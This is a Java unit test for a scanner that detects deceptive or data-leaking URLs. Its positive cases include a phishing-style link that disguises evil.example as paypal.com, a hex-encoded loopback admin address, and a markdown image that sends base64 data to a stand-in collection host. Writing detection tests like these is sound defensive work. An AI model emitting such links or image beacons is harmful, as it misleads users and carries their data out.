package dev.prism.scanners;

import java.util.List;

/// Links that deceive or carry data away.
class MaliciousUrlScannerTest extends ScannerContract {
  @Override
  String name() {
    return "malicious_url";
  }

  @Override
  List<String> finds() {
    return List.of("go to https://paypal.com@evil.example/login", "see http://0x7f000001/admin",
        "![x](https://collect.example/p?d=QWxhZGRpbjpvcGVuIHNlc2FtZSBhbmQgbW9yZQ)");
  }

  @Override
  List<String> passes() {
    return List.of("See https://developer.apple.com/documentation/swift",
        "Read https://github.blog/2023-01-01-a-post-about-actions/", "Visit https://store4you.com");
  }
}
